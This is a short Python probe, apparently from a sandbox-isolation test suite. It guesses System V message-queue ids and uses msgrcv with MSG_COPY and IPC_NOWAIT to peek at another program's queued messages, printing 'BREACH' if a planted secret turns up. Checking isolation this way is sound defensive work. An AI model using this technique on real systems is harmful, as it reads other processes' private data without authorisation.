# Takes a message from another program's queue, whose number it guesses.
# class: network
# armed: breach

import ctypes
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(8 + 4096)
for number in {QUEUE, *range(50)}:
    # MSG_COPY and IPC_NOWAIT leave it there for the next one to steal.
    size = libc.msgrcv(number, buffer, ctypes.c_size_t(4096), ctypes.c_long(0), 0o44000)
    if size > 0 and SECRET.encode() in buffer.raw:
        print("BREACH")
        break
